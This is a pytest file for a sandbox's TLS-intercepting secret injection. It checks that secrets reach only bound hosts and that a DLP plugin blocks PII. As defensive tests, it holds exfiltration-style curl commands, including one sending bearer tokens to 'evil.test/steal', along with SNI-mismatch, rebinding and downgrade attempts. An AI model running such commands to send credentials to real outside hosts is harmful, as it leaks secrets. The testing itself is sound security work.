# SPDX-License-Identifier: Apache-2.0
"""Secrets over TLS (docs/secrets.md): curl in a Debian guest reaches the
secret's host through the interception and the server receives the real
value; every other way out (another host, another server name on the bound
address, an address the sandbox did not resolve for the name, a Host that is
not the server name, plain HTTP, a CONNECT proxy, a rebinding answer, a
downgrade, an upstream whose certificate does not verify) carries the
placeholder or nothing. The fake internet's servers log every request as it
arrived (fakenet.py, fakeweb.py): those logs are the proof."""

import base64
import os
import subprocess
import sys

import pytest

from conftest import BUILD, ROOT, unique
from fakenet import internet, tls_internet  # noqa: F401

sys.path.insert(0, os.path.join(ROOT, "tests", "images"))

VALUE = "sk-tls-" + os.urandom(12).hex()
OTHER_VALUE = "gh-tls-" + os.urandom(12).hex()
SSN = "123-45-6789"


@pytest.fixture(scope="module")
def debian_image(msb, tmp_path_factory):
    """tests/images/debian.py's python3 + curl image, loaded (no registry)."""
    import build
    import debian
    try:
        im = debian.image()
    except debian.Unavailable as e:
        pytest.skip(f"Debian packages for the curl image unavailable: {e}")
    d = str(tmp_path_factory.mktemp("debian-layout"))
    build.write_layout(im, d, "debian-curl:1")
    msb("load", "-q", "-t", "debian-curl:1", d, check=0)
    return "debian-curl:1"


def boot(msb, image, net, *flags, env=None):
    name = unique("tls")
    msb("run", image, "--name", name, "-d", "--dns-nameserver",
        "198.51.100.2", "--tls-upstream-ca", net.ca,
        "-v", f"{net.dir}:/fake:ro", *flags, check=0,
        env=dict(env or {}, MSB_TLS_TOKEN=VALUE, MSB_TLS_OTHER=OTHER_VALUE))
    return name


@pytest.fixture(scope="module")
def sb(msb, debian_image, tls_internet):
    """TOKEN for api.test and below it; OTHER for evil.test, which is
    bypassed; old.test and badcert.test bound too, so they are
    intercepted."""
    name = boot(msb, debian_image, tls_internet,
                "--secret-env",
                "TOKEN=@env:MSB_TLS_TOKEN:api.test,*.api.test,old.test,"
                "badcert.test",
                "--secret-env", "OTHER=@env:MSB_TLS_OTHER:evil.test",
                "--tls-bypass", "evil.test")
    yield name
    msb("rm", "-f", name)


def sh_in(msb, name, script):
    p = msb("exec", name, "--", "sh", "-c", script, timeout=120)
    return p.returncode, p.stdout.decode(), p.stderr.decode()


class Logs:
    """What each server logged during a block of a test."""

    def __init__(self, net):
        self.net = net
        self.at = {k: len(net.log(k)) for k in net.logs}

    def new(self, server):
        return self.net.log(server)[self.at[server]:]

    def everything(self):
        return b"".join(self.new(k) for k in self.net.logs)


def no_value_anywhere(logs):
    out = logs.everything()
    assert VALUE.encode() not in out and OTHER_VALUE.encode() not in out


def placeholder(msb, name, var="TOKEN"):
    return msb.out("exec", name, "--", "sh", "-c", f'echo "${var}"').strip()


def test_curl_to_the_bound_host_sends_the_value(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    rc, out, err = sh_in(msb, sb,
                         'curl -sS -f "https://api.test/h?key=$TOKEN" '
                         '-H "Authorization: Bearer $TOKEN" '
                         '-H "X-Custom: $TOKEN" '
                         '--data-binary "token=$TOKEN&x=1" && '
                         'curl -sS -f -u "user:$TOKEN" https://api.test/basic')
    assert rc == 0, err
    got = logs.new("api")
    basic = base64.b64encode(f"user:{VALUE}".encode())
    assert f"key={VALUE}".encode() in got, got
    assert f"Bearer {VALUE}".encode() in got, got
    assert f"X-Custom: {VALUE}".encode() in got, got
    assert f"token={VALUE}&x=1".encode() in got, got
    assert b"GET /basic" in got and basic in got, got
    assert ph.encode() not in got, got
    # The guest verified a certificate from the home's CA, by default
    # (curl trusts CURL_CA_BUNDLE, which the agent set).
    rc, out, err = sh_in(msb, sb, "curl -sS -v -o /dev/null "
                         "https://api.test/ 2>&1 | grep -i issuer")
    assert "O=microsandbox" in out, out


def test_value_over_ipv6_and_below_a_wildcard(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -6 -sS -f https://v6.api.test/six '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 0, err
    got = logs.new("api")
    assert b"GET /six" in got and f"Bearer {VALUE}".encode() in got, got


def test_another_host_gets_only_the_placeholder(msb, sb, tls_internet):
    """evil.test is bypassed: the guest talks to it itself (trusting the
    fake internet's CA from the volume) and it gets the placeholder."""
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    rc, out, err = sh_in(msb, sb, 'curl -sS -f --cacert /fake/ca.pem '
                         'https://evil.test/steal '
                         '-H "Authorization: Bearer $TOKEN" '
                         '-H "X-Other: $OTHER"')
    assert rc == 0, err
    got = logs.new("evil")
    assert b"GET /steal" in got and ph.encode() in got, got
    no_value_anywhere(logs)


def test_another_server_name_on_the_bound_address(msb, sb, tls_internet):
    """The bound host's own address under a name no secret is bound to:
    not intercepted, so the server gets the placeholder."""
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    rc, out, err = sh_in(msb, sb, 'curl -sS -k --resolve '
                         'unbound.test:443:198.51.100.4 '
                         'https://unbound.test/sni '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 0, err
    got = logs.new("api")
    assert b"sni unbound.test" in got and ph.encode() in got, got
    no_value_anywhere(logs)


def test_an_address_not_resolved_for_the_name_gets_nothing(msb, sb,
                                                           tls_internet):
    """x.api.test was never asked of the sandbox's resolver: the address
    is not bound to the name, so no value, though the certificate is
    good."""
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS --resolve '
                         'never-asked.api.test:443:198.51.100.4 '
                         'https://never-asked.api.test/bind '
                         '-H "Authorization: Bearer $TOKEN"')
    assert "403" in out or "refused" in out, (rc, out, err)
    assert b"/bind" not in logs.new("api")
    no_value_anywhere(logs)
    assert "the address was not resolved by the sandbox" in \
        msb.out("logs", sb)


def test_host_header_other_than_the_server_name(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS https://api.test/host '
                         '-H "Host: evil.test" '
                         '-H "Authorization: Bearer $TOKEN"')
    assert "msb: refused" in out, (rc, out, err)
    assert b"/host" not in logs.new("api")
    no_value_anywhere(logs)


def test_plain_http_to_the_bound_host(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS http://api.test/plain '
                         '-H "Authorization: Bearer $TOKEN"')
    assert "msb: refused" in out, (rc, out, err)
    assert b"/plain" not in logs.new("api_http")
    no_value_anywhere(logs)


def test_connect_proxy(msb, sb, tls_internet):
    """Through a CONNECT proxy the TLS inside the tunnel is the guest's
    own with the server (not intercepted): the placeholder arrives, the
    value never; a placeholder for the proxy itself is refused."""
    logs = Logs(tls_internet)
    ph = placeholder(msb, sb)
    rc, out, err = sh_in(msb, sb, 'curl -sS -f --cacert /fake/ca.pem '
                         '-x http://proxy.test:3128 https://api.test/proxied '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 0, err
    assert b"CONNECT api.test:443" in logs.new("proxy")
    got = logs.new("api")
    assert b"/proxied" in got and ph.encode() in got, got
    rc, out, err = sh_in(msb, sb, 'curl -sS -x http://proxy.test:3128 '
                         '--proxy-user "me:$TOKEN" https://api.test/p2')
    assert rc != 0, (out, err)
    assert b"/p2" not in logs.new("api")
    no_value_anywhere(logs)


def test_rebinding_answer_is_dropped(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS https://rebind.test/ '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 6, (rc, out, err)  # could not resolve
    # nor may the guest name a private address itself
    rc, out, err = sh_in(msb, sb, 'curl -sS -m 10 --resolve '
                         'api.test:443:10.1.2.4 https://api.test/ '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc != 0, (rc, out, err)
    no_value_anywhere(logs)


def test_upstream_certificate_that_does_not_verify(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS https://badcert.test/ '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 35, (rc, out, err)  # the handshake was refused
    assert b"GET" not in logs.new("badcert")
    no_value_anywhere(logs)
    log = msb.out("logs", sb)
    assert "(server name badcert.test): refused, the server failed: its " \
           "certificate does not verify" in log, log


def test_upstream_below_tls12_is_refused(msb, sb, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'curl -sS https://old.test/ '
                         '-H "Authorization: Bearer $TOKEN"')
    assert rc == 35, (rc, out, err)
    assert b"GET" not in logs.new("old")
    no_value_anywhere(logs)
    assert "(server name old.test): refused, the server failed" in \
        msb.out("logs", sb)


def test_guest_below_tls12_is_refused(msb, sb, tls_internet):
    """A guest offering TLS 1.1 at most to an intercepted name."""
    logs = Logs(tls_internet)
    script = ("import ssl, socket\n"
              "c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"
              "c.check_hostname = False\n"
              "c.verify_mode = ssl.CERT_NONE\n"
              "c.set_ciphers('DEFAULT:@SECLEVEL=0')\n"
              "c.minimum_version = ssl.TLSVersion.TLSv1\n"
              "c.maximum_version = ssl.TLSVersion.TLSv1_1\n"
              "s = socket.create_connection(('api.test', 443))\n"
              "try:\n"
              "    c.wrap_socket(s, server_hostname='api.test')\n"
              "    print('handshake done')\n"
              "except ssl.SSLError as e:\n"
              "    print('refused', e.reason)\n")
    out = msb.out("exec", sb, "--", "python3", "-c", script)
    assert out.startswith("refused"), out
    no_value_anywhere(logs)
    assert "(server name api.test): the guest's handshake failed" in \
        msb.out("logs", sb)


def test_nothing_under_msb_home_holds_a_value(msb, sb):
    sh_in(msb, sb, "sync")
    p = subprocess.run(["grep", "-r", "-l", "-a", "-e", VALUE, "-e",
                        OTHER_VALUE, msb.home], capture_output=True)
    assert p.returncode == 1, p.stdout


# ---- on_http over intercepted TLS: the seeds' DLP example -----------------

@pytest.fixture(scope="module")
def dlp(msb, debian_image, tls_internet):
    name = boot(msb, debian_image, tls_internet, "--net-plugin",
                os.path.join(BUILD, "examples", "dlp_plugin.so"))
    yield name
    msb("rm", "-f", name)


def test_dlp_hook_sees_https_requests(msb, dlp, tls_internet):
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, dlp, 'curl -sS https://api.test/dlp1 '
                         f'--data "name=ann&ssn={SSN}"')
    assert "msb: refused: DLP: PII detected" in out, (rc, out, err)
    rc, out, err = sh_in(msb, dlp, 'curl -sS -f https://api.test/dlp2 '
                         '--data "order=12345"')
    assert rc == 0, err
    got = logs.new("api")
    assert b"/dlp1" not in got and b"POST /dlp2" in got, got
    assert SSN.encode() not in logs.everything()
    assert ("on_http: request to 198.51.100.4:443 (Host 'api.test') "
            "blocked: DLP: PII detected") in msb.out("logs", dlp)


def test_upload_over_8_mib_to_the_bound_host(msb, sb, tls_internet):
    """10 MiB bodies, with a length and chunked, are streamed, not held:
    the header still gets the value, the body arrives byte for byte."""
    logs = Logs(tls_internet)
    rc, out, err = sh_in(msb, sb, 'head -c 10485760 /dev/urandom > /tmp/big '
                         '&& sha256sum /tmp/big | cut -d" " -f1 && '
                         'curl -sS -f -T /tmp/big https://api.test/big '
                         '-H "Authorization: Bearer $TOKEN" && '
                         # from a pipe: chunked
                         'cat /tmp/big | curl -sS -f -T - '
                         'https://api.test/chunked '
                         '-H "Authorization: Bearer $TOKEN"; rm -f /tmp/big')
    assert rc == 0, err
    want, got, got_chunked = out.split()
    assert want == got == got_chunked, out
    log = logs.new("api")
    assert b"PUT /big" in log and f"Bearer {VALUE}".encode() in log
    assert b"PUT /chunked" in log and b"Transfer-Encoding: chunked" in log
